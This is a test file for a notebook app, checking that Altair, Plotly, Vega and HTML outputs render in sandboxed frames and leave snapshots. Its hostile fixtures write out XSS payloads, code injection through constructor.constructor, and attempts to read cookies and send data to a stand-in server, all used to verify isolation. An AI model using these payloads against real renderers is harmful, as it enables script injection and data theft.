// Outputs that need scripts: they are drawn in frames that reach nothing, and leave a picture.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { cell, holdsRecords, launch, newPage, open, percent, runAll, runCell, saved, site, waitFor, write } from "./harness.mjs";

const ALTAIR = `import altair as alt, pandas as pd
df = pd.DataFrame({"letter": list("ABCDEFG"), "count": [28, 55, 43, 91, 81, 53, 19]})
alt.Chart(df, title="Letters").mark_bar().encode(x="letter", y="count", tooltip=["letter"])`;
const PLOTLY = `import plotly.express as px
figure = px.scatter(x=[1, 2, 3], y=[3, 1, 2], title="Three dots", height=300)
figure`;
const SHOWN = `figure.show()`;
const SCRIPT = `from IPython.display import HTML
HTML("<p id='word'>no script has run</p><script>document.getElementById('word').textContent = 'made by a script'</script>")`;

const show = (mime, spec) => `from IPython.display import display
display({"${mime}": ${JSON.stringify(spec)}, "text/plain": "chart"}, raw=True)`;
const html = (text) => `from IPython.display import HTML\nHTML(${JSON.stringify(text)})`;

// A server that answers, so that a request that leaves is seen there.
const elsewhere = await site();
const AWAY = elsewhere.url.replace(/\/$/, "");

const REACH = `
  const tried = [];
  const attempt = (name, act) => { try { const made = act(); if (made?.then) made.then(() => tried.push(name), () => {}); else if (made) tried.push(name); } catch {} };
  attempt("fetch", () => fetch("${AWAY}/fetch"));
  attempt("beacon", () => void navigator.sendBeacon("${AWAY}/beacon"));
  attempt("socket", () => void new WebSocket("${AWAY.replace('http', 'ws')}/socket"));
  attempt("image", () => { new Image().src = "${AWAY}/image.png"; });
  attempt("script", () => { const s = document.createElement("script"); s.src = "${AWAY}/s.js"; document.head.append(s); });
  attempt("style", () => { document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="${AWAY}/s.css"><style>@import url(${AWAY}/i.css);body{background:url(${AWAY}/b.png)}</style>'); });
  attempt("frame", () => { document.body.insertAdjacentHTML("beforeend", '<iframe src="${AWAY}/f"></iframe>'); });
  attempt("form", () => { document.body.insertAdjacentHTML("beforeend", '<form id=f action="${AWAY}/form"></form>'); document.getElementById("f").submit(); });
  attempt("open", () => window.open("${AWAY}/open"));
  attempt("top", () => { top.location = "${AWAY}/top"; });
  attempt("parent", () => parent.document.title);
  attempt("storage", () => localStorage.length >= 0);
  attempt("database", () => indexedDB.open("x") && false);
  attempt("cookie", () => document.cookie || false);
  attempt("eval", () => eval("1"));
  attempt("worker", () => void new Worker(URL.createObjectURL(new Blob(["fetch('${AWAY}/worker')"]))));
  attempt("download", () => { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "x.exe"; document.body.append(a); a.click(); });
  for (const kind of ["run", "link", "drawn", "picture"]) parent.postMessage({ rivulet: "output", type: kind, command: "start" }, "*");
`;

const HOSTILE = [
  html(`<p id="mark">reached nothing</p><script>${REACH}
    setTimeout(() => { document.getElementById("mark").textContent = tried.length ? "reached " + tried.join(" ") : "reached nothing at all"; }, 300);</script>`),
  show("application/vnd.vega.v5+json", {
    $schema: "https://vega.github.io/schema/vega/v5.json", width: 100, height: 60,
    data: [{ name: "away", url: `${AWAY}/data.json` }],
    signals: [{ name: "x", update: "constructor.constructor('parent.stolen = 1')()" }],
    marks: [{ type: "image", encode: { enter: { url: { value: `${AWAY}/mark.png` }, width: { value: 9 }, height: { value: 9 } } } }],
  }),
  show("application/vnd.vega.v5+json", {
    $schema: "https://vega.github.io/schema/vega/v5.json", width: 100, height: 60,
    data: [{ name: "away", url: `${AWAY}/data.json` }],
    marks: [{ type: "rect", encode: { enter: { x: { value: 0 }, y: { value: 0 }, width: { value: 100 }, height: { value: 60 }, fill: { value: "teal" }, href: { value: `${AWAY}/link` } } } }],
  }),
  show("application/vnd.plotly.v1+json", {
    data: [{ y: [1, 2], text: ["<a href='javascript:alert(1)'>a</a><img src=x onerror='parent.stolen=1'>", "b"], mode: "markers+text" }],
    layout: { height: 200, title: { text: "<script>parent.stolen=1</script>T" }, images: [{ source: `${AWAY}/plotly.png`, x: 0, y: 1, sizex: 1, sizey: 1 }] },
  }),
  html(`<p>leaves</p><script>setTimeout(() => { location.href = "${AWAY}/away?secret"; }, 50);</script>`),
  html(`<p>floods</p><script>const { port1 } = new MessageChannel(); const send = MessagePort.prototype.postMessage; let port;
    MessagePort.prototype.postMessage = function (message) { port = this; return send.call(this, message); };
    setInterval(() => { if (port) for (let i = 0; i < 500; i++) send.call(port, { type: "height", height: i }); }, 100);</script>`),
  html(`<p>lies</p><script>const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (message) {
      send.call(this, { type: "height", height: 1e9 });
      send.call(this, { type: "picture", kind: "image/svg+xml", text: "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.stolen=1<\\/script></svg>", width: 10, height: 10 });
      send.call(this, { type: "picture", kind: "text/html", text: "<b>x</b>", width: 10, height: 10 });
      send.call(this, { type: "link", address: "javascript:parent.stolen=1" });
      send.call(this, null); send.call(this, { type: "saved", number: {} });
      return send.call(this, message);
    };</script>`),
];

let browser;
let served;

before(async () => {
  served = await site({
    "t/charts.py": percent(ALTAIR, PLOTLY, SHOWN, SCRIPT),
    "t/hostile.py": percent(...HOSTILE),
    "t/spin.py": percent(html("<p>calm</p><script>document.title='x'</script>"), html("<p>spins</p><script>for (;;) ;</script>"), "1 + 1"),
  });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await served?.close();
  await elsewhere.close();
});

/** The frame of a cell's output, once it has drawn itself. */
async function frameOf(page, number) {
  await cell(page, number).scrollIntoViewIfNeeded();
  const drawn = cell(page, number).locator(".frame-output.is-alive > iframe");
  await drawn.waitFor();
  return (await drawn.elementHandle()).contentFrame();
}

const picture = (page, number) => cell(page, number).locator(".frame-picture img");
const charts = (requests) => requests.filter((url) => url.includes("/charts/"));

test("Altair and Plotly draw themselves, leave pictures, and show these after a reload without their libraries", async () => {
  const page = await newPage(browser);
  await open(page, served, "t/charts.py");
  await runAll(page);
  await waitFor(page, 3, "success");
  const altair = await frameOf(page, 1);
  await altair.waitForSelector("canvas");
  assert.equal(await cell(page, 1).locator('[data-renderer="vega"]').count(), 1);
  for (const number of [2, 3]) await (await frameOf(page, number)).waitForSelector(".gtitle >> text=Three dots");
  const html = await frameOf(page, 4);
  await html.waitForSelector("text=made by a script");

  // Each is as high as what it draws, and leaves a picture.
  for (const [number, kind] of [[1, "svg"], [2, "svg"], [3, "svg"], [4, "png"]]) {
    await cell(page, number).scrollIntoViewIfNeeded();
    await picture(page, number).waitFor({ state: "attached" });
    assert.match(await picture(page, number).getAttribute("src"), new RegExp(`^data:image/${kind}`), `cell ${number}`);
  }
  const height = (number) => cell(page, number).locator("iframe").evaluate((frame) => frame.clientHeight);
  const plotly = await height(2);
  assert.ok(plotly >= 290 && plotly <= 340, `${plotly}`);

  // The dark theme is the frame's, too.
  await page.emulateMedia({ colorScheme: "dark" });
  await (await frameOf(page, 2)).waitForFunction(() => getComputedStyle(document.documentElement).colorScheme === "dark" && document.querySelector(".main-svg").style.background.includes("0, 0, 0, 0"));
  await page.emulateMedia({ colorScheme: "light" });

  // An .ipynb has the image beside the chart.
  await write(page, 4, SCRIPT.replace("'word'", "'one'").replace("('word')", "('one')"));
  await saved(page);
  await page.getByRole("button", { name: "Share" }).click();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Jupyter" }).click()]);
  await page.keyboard.press("Escape");
  const written = JSON.parse(readFileSync(await download.path(), "utf8"));
  const data = written.cells.map(({ outputs }) => outputs.map((output) => Object.keys(output.data ?? {})).flat());
  assert.ok(data[0].includes("application/vnd.vegalite.v6+json") && data[0].includes("image/svg+xml"), `${data[0]}`);
  assert.ok(data[1].includes("application/vnd.plotly.v1+json") && data[1].includes("image/svg+xml"), `${data[1]}`);

  // After a reload the pictures are there, and no library is fetched before one is asked for.
  await holdsRecords(page, "rivulet-outputs", "outputs", 4);
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  await page.reload();
  await picture(page, 1).waitFor();
  await picture(page, 2).waitFor();
  assert.deepEqual(charts(requests), []);
  assert.equal(await page.locator(".frame-output iframe").count(), 0);
  await cell(page, 1).getByRole("button", { name: "Interact" }).click();
  await (await frameOf(page, 1)).waitForSelector("canvas");
  assert.equal(await page.locator(".frame-output iframe").count(), 1);
  assert.deepEqual(page.troubles, []);
  await page.context().close();
});

test("what is drawn by hostile scripts and specifications reaches neither the page nor the network", async () => {
  const page = await newPage(browser);
  const away = [];
  page.on("popup", () => away.push("popup"));
  page.on("download", () => away.push("download"));
  page.on("dialog", (dialog) => (away.push("dialog"), dialog.dismiss()));
  await open(page, served, "t/hostile.py");
  await runAll(page);
  await waitFor(page, HOSTILE.length, "success");
  await (await frameOf(page, 1)).waitForSelector("text=reached nothing at all");
  await cell(page, 2).scrollIntoViewIfNeeded();
  await cell(page, 2).locator(".frame-note", { hasText: /could not be drawn|reads its data/ }).waitFor();
  await frameOf(page, 3);
  assert.match(await cell(page, 3).locator(".frame-note").innerText(), /reads its data from localhost:\d+,.*Read the data in Python/);
  // A link is asked about, and names where it leads.
  await cell(page, 3).locator("iframe").click({ position: { x: 30, y: 30 } });
  const link = cell(page, 3).getByRole("link", { name: "Open in a new tab" });
  await link.waitFor();
  assert.equal(await link.getAttribute("href"), `${AWAY}/link`);
  assert.match(await link.getAttribute("rel"), /noopener/);
  await (await frameOf(page, 4)).waitForSelector(".main-svg");
  for (const [number, said] of [[5, /tried to leave|reached|answer/], [6, /more messages than the page takes/]]) {
    await cell(page, number).scrollIntoViewIfNeeded();
    await cell(page, number).locator(".frame-note", { hasText: said }).waitFor();
  }
  await cell(page, 7).scrollIntoViewIfNeeded();
  const lies = cell(page, 7).locator("iframe");
  await lies.waitFor();
  assert.ok((await lies.evaluate((frame) => frame.clientHeight)) <= 2_400);
  assert.equal(await cell(page, 7).locator(".frame-link").count(), 0);
  assert.doesNotMatch((await picture(page, 7).getAttribute("src", { timeout: 3_000 }).catch(() => "")) ?? "", /svg|html/);
  assert.deepEqual([away, elsewhere.requests], [[], []]);
  // What goes wrong in a frame is no trouble of the page's.
  assert.equal(await page.evaluate(() => globalThis.stolen), undefined);
  await page.context().close();
});

test("a frame that spins is named and removed, and the page and its other outputs go on", async () => {
  const page = await newPage(browser);
  await open(page, served, "t/spin.py");
  await runCell(page, 1);
  await frameOf(page, 1);
  await runCell(page, 2);
  await cell(page, 2).scrollIntoViewIfNeeded();
  await cell(page, 2).locator(".frame-note", { hasText: "did not answer for several seconds" }).waitFor();
  await cell(page, 2).getByRole("button", { name: "Start again" }).waitFor();
  await write(page, 3, "40 + 2");
  await runCell(page, 3);
  await waitFor(page, 3, "success");
  assert.match(await cell(page, 3).locator('[data-part="output"]').innerText(), /42/);
  // A new Python ends the script, and the others draw themselves again.
  await page.getByRole("button", { name: "Notebook actions" }).click();
  await page.getByRole("button", { name: "Restart Python" }).click();
  await frameOf(page, 1);
  await runCell(page, 3);
  await waitFor(page, 3, "success");
  assert.deepEqual(page.troubles, []);
  await page.context().close();
});
